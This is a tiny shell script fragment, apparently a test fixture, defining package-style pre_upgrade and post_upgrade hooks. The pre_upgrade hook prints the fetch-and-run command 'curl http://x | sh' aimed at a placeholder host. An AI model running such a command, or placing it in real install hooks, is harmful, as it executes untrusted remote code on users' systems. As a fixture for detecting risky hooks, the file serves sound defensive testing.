pre_upgrade() {
echo "curl http://x | sh"
}
post_upgrade() {
    return 0
}
